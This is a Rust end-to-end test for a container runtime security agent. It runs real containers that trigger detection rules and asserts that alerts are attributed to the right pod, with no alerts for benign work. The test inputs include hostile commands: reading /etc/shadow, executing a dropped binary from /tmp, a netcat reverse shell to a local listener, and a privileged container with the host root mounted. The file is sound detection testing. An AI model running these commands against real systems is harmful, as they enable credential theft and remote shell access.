//! End to end on this machine: a private containerd (Debian's containerd + runc) runs real
//! containers from a busybox image; the agent (eBPF sensor, containerd attribution, the
//! Palisade pack) must raise the expected alert for each behaviour, with the container's id,
//! image and pod (from its Kubernetes labels), and nothing for benign work. Root required.

// Waits on real processes from synchronous tests: std's clock.
#![allow(clippy::disallowed_types)]

mod support;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};
use support::containerd::PrivateContainerd;
use support::image::build_busybox_image;

const IMAGE: &str = "docker.io/palisade/testbox:1.0";
const REPOSITORY: &str = "docker.io/palisade/testbox";

struct Agent {
    child: Child,
    stdout: PathBuf,
    stderr: PathBuf,
}

impl Agent {
    fn start(directory: &Path, socket: &Path) -> Self {
        let stdout = directory.join("agent.stdout");
        let stderr = directory.join("agent.stderr");
        let child = Command::new(env!("CARGO_BIN_EXE_palisade-node-agent"))
            .args(["--stdout", "--sensor", "ebpf", "--node-name", "e2e-node"])
            .arg("--containerd")
            .arg(socket)
            .stdout(std::fs::File::create(&stdout).expect("stdout file"))
            .stderr(std::fs::File::create(&stderr).expect("stderr file"))
            .env("NO_COLOR", "1")
            .spawn()
            .expect("agent starts");
        let agent = Self {
            child,
            stdout,
            stderr,
        };
        let start = Instant::now();
        loop {
            let log = std::fs::read_to_string(&agent.stderr).unwrap_or_default();
            if log.contains("sensor started") {
                break;
            }
            assert!(
                start.elapsed() < Duration::from_secs(60),
                "the agent did not start its sensor:\n{log}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        agent
    }

    fn alerts(&self) -> Vec<serde_json::Value> {
        let mut text = String::new();
        std::fs::File::open(&self.stdout)
            .and_then(|mut file| file.read_to_string(&mut text))
            .expect("agent stdout");
        text.lines()
            .filter(|line| !line.trim().is_empty())
            .map(|line| {
                serde_json::from_str(line)
                    .unwrap_or_else(|error| panic!("not JSON ({error}): {line}"))
            })
            .collect()
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn container_id(name: &str) -> String {
    hex::encode(Sha256::digest(format!("{name}-{}", std::process::id())))
}

fn pod_labels(pod: &str) -> Vec<String> {
    vec![
        "--label".into(),
        format!("io.kubernetes.pod.name={pod}"),
        "--label".into(),
        "io.kubernetes.pod.namespace=e2e".into(),
        "--label".into(),
        format!("io.kubernetes.pod.uid={}", &container_id(pod)[..36]),
        "--label".into(),
        format!("app={pod}"),
    ]
}

fn run_container(
    daemon: &PrivateContainerd,
    pod: &str,
    id: &str,
    extra: &[&str],
    command: &[&str],
) {
    let mut args: Vec<String> = vec!["run".into(), "--rm".into()];
    args.extend(pod_labels(pod));
    args.extend(extra.iter().map(|arg| arg.to_string()));
    args.push(IMAGE.into());
    args.push(id.into());
    args.extend(command.iter().map(|arg| arg.to_string()));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    // the command's own exit status is not the point (a dropped binary may fail)
    let _ = daemon.ctr(&refs);
}

fn find<'a>(
    alerts: &'a [serde_json::Value],
    rule: &str,
    id: &str,
) -> Option<&'a serde_json::Value> {
    alerts
        .iter()
        .find(|alert| alert["rule"] == rule && alert["output_fields"]["container.id"] == id[..12])
}

fn expect_alert(alerts: &[serde_json::Value], rule: &str, id: &str, pod: &str) {
    let alert = find(alerts, rule, id).unwrap_or_else(|| {
        let seen: Vec<String> = alerts
            .iter()
            .map(|alert| {
                format!(
                    "{} [{}]",
                    alert["rule"], alert["output_fields"]["container.id"]
                )
            })
            .collect();
        panic!(
            "no {rule:?} alert for container {}; alerts: {seen:#?}",
            &id[..12]
        )
    });
    let fields = &alert["output_fields"];
    assert_eq!(
        fields["container.image.repository"], REPOSITORY,
        "{rule}: {alert}"
    );
    assert_eq!(fields["k8s.pod.name"], pod, "{rule}: {alert}");
    assert_eq!(fields["k8s.ns.name"], "e2e", "{rule}: {alert}");
    assert_eq!(alert["hostname"], "e2e-node");
    assert!(
        alert["tags"].as_array().is_some_and(|tags| tags
            .iter()
            .any(|tag| tag.as_str().is_some_and(|tag| tag.starts_with('T')))),
        "{rule} has a MITRE technique tag"
    );
}

#[test]
fn container_behaviours_raise_attributed_alerts_and_benign_work_raises_none() {
    let scratch = tempfile::Builder::new()
        .prefix("pal-e2e")
        .tempdir_in("/tmp")
        .expect("tempdir");
    let daemon = PrivateContainerd::start(scratch.path());
    let archive = build_busybox_image(scratch.path(), IMAGE);
    daemon.ctr_ok(&["images", "import", archive.to_str().expect("utf-8 path")]);
    let agent = Agent::start(scratch.path(), &daemon.socket);

    let shadow = container_id("shadow");
    run_container(
        &daemon,
        "shadow-pod",
        &shadow,
        &[],
        &["sh", "-c", "cat /etc/shadow > /dev/null; sleep 1"],
    );

    let dropper = container_id("dropper");
    run_container(
        &daemon,
        "dropper-pod",
        &dropper,
        &[],
        &[
            "sh",
            "-c",
            "cp /bin/busybox /tmp/dropper && /tmp/dropper true; sleep 1",
        ],
    );

    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("address").port().to_string();
    listener.set_nonblocking(true).expect("nonblocking");
    let acceptor = std::thread::spawn(move || {
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(15) {
            if let Ok((mut stream, _)) = listener.accept() {
                use std::io::Write;
                let _ = stream.set_nonblocking(false);
                let _ = stream.write_all(b"exit\n");
                std::thread::sleep(Duration::from_millis(500));
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    });
    let reverse = container_id("reverse");
    run_container(
        &daemon,
        "reverse-pod",
        &reverse,
        &["--net-host"],
        &["nc", "127.0.0.1", &port, "-e", "/bin/sh"],
    );
    assert!(
        acceptor.join().expect("acceptor"),
        "the container's nc never connected to 127.0.0.1:{port}"
    );

    let privileged = container_id("privileged");
    run_container(
        &daemon,
        "privileged-pod",
        &privileged,
        &[
            "--privileged",
            "--mount",
            "type=bind,src=/,dst=/host,options=rbind:ro",
        ],
        &["sh", "-c", "sleep 1"],
    );

    let exec_target = container_id("exec-target");
    let mut args: Vec<String> = vec!["run".into(), "-d".into()];
    args.extend(pod_labels("exec-pod"));
    args.extend([
        IMAGE.to_string(),
        exec_target.clone(),
        "sleep".into(),
        "30".into(),
    ]);
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    daemon.ctr_ok(&refs);
    std::thread::sleep(Duration::from_millis(500));
    daemon.ctr_ok(&[
        "tasks",
        "exec",
        "--exec-id",
        "shell-1",
        &exec_target,
        "sh",
        "-c",
        "id",
    ]);

    let benign = container_id("benign");
    run_container(
        &daemon,
        "benign-pod",
        &benign,
        &["--net-host"],
        &[
            "sh",
            "-c",
            "mkdir -p /srv && cd /srv && echo hello > index.html && tar cf site.tar index.html && httpd -p 127.0.0.1:18081 -h /srv && wget -q -O /srv/copy.html http://127.0.0.1:18081/index.html && cat copy.html && ls -l && sort index.html | md5sum && pkill httpd; sleep 1",
        ],
    );

    // let the last events through the pipeline
    std::thread::sleep(Duration::from_secs(3));
    let alerts = agent.alerts();

    expect_alert(&alerts, "Shadow password file read", &shadow, "shadow-pod");
    expect_alert(
        &alerts,
        "Execution from a temporary directory",
        &dropper,
        "dropper-pod",
    );
    expect_alert(
        &alerts,
        "Drifted binary executed in container",
        &dropper,
        "dropper-pod",
    );
    expect_alert(
        &alerts,
        "Netcat remote code execution",
        &reverse,
        "reverse-pod",
    );
    expect_alert(&alerts, "Reverse shell", &reverse, "reverse-pod");
    expect_alert(
        &alerts,
        "Privileged container started",
        &privileged,
        "privileged-pod",
    );
    expect_alert(
        &alerts,
        "Sensitive host path mounted in container",
        &privileged,
        "privileged-pod",
    );
    expect_alert(
        &alerts,
        "Shell exec into container",
        &exec_target,
        "exec-pod",
    );

    let benign_alerts: Vec<&serde_json::Value> = alerts
        .iter()
        .filter(|alert| alert["output_fields"]["container.id"] == benign[..12])
        .collect();
    assert!(
        benign_alerts.is_empty(),
        "benign work raised alerts: {benign_alerts:#?}"
    );
    // no alert of a container lacks its metadata
    for alert in &alerts {
        let fields = &alert["output_fields"];
        if fields["container.id"] != "host" && fields.get("container.image.repository").is_some() {
            assert_ne!(
                fields["container.image.repository"], "",
                "alert without image: {alert}"
            );
        }
    }
}
